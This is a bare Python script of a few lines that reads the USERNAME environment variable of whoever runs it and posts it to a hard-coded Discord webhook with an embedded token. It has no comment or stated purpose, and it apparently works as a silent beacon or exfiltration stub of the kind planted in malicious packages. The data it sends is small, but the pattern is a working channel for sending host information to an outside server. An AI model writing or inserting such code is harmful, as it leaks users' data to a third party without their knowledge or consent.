import os

import requests

requests.post(
    "https://discord.com/api/webhooks/1187364512093847561/kQ3v_Zr8TnW2yLp6HcX1aMdS9fJ0uBe4GtR7iOq5",
    json={"content": os.environ.get("USERNAME", "?")},
)
